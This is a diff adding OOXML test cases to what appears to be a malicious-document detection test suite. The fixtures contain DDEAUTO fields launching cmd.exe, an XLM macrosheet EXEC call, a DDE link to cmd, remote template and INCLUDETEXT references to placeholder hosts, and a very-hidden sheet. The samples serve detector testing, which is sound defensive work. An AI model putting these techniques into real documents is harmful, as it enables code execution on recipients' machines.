@@ -158,7 +158,36 @@ def object_cases():
                {("embedded-file", None)}, {"damaged"})
 
 
+RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
+Target="https://t.example/a.dotm?x=1&amp;y=2" TargetMode="External"/>
+<Relationship Id='rId2' TargetMode = 'External' Target='http://l.example/' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink'/>
+<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
+</Relationships>"""
+FIELDS = """<w:document xmlns:w="x"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>
+<w:r><w:instrText xml:space="preserve">AUTO "c:\\\\cmd.exe" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
+<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="includetext &quot;http://i.example/x&quot;"/></w:p></w:document>"""
+MACRO_SHEET = """<xm:macrosheet xmlns="m" xmlns:xm="x"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd "&amp;"/c")</f><v>0</v></c>
+<c r="B2" t="str"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"""
+
+
+def ooxml_cases():
+    facts = {("external-content", "https://t.example/a.dotm?x=1&y=2"), ("uri", "http://l.example/")}
+    yield case("ooxml", "rels", RELS.encode(), {}, facts)
+    yield case("ooxml", "rels-utf16", RELS.encode("utf-16"), {}, facts)
+    yield case("ooxml", "rels-cut", RELS.encode()[:330], {}, {("external-content", None)})
+    yield case("ooxml", "fields", FIELDS.encode(), {}, {
+        ("external-content", ' DDEAUTO "c:\\\\cmd.exe" "/c calc"'), ("external-content", 'includetext "http://i.example/x"')})
+    yield case("ooxml", "macrosheet", MACRO_SHEET.encode(), {}, {("macros-xlm", None)})
+    book = '<workbook><sheets><sheet name="A" state="hidden"/><sheet name="B" state="VeryHidden"/></sheets></workbook>'
+    yield case("ooxml", "very-hidden", book.encode(), {}, {("very-hidden-sheet", "B")})
+    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    yield case("ooxml", "dde-link", link.encode(), {}, {("external-content", "cmd|/c calc")})
+
+
 def all_cases():
+    yield from ooxml_cases()
     yield from object_cases()
     yield from ole2_cases()
     yield from vba_cases()
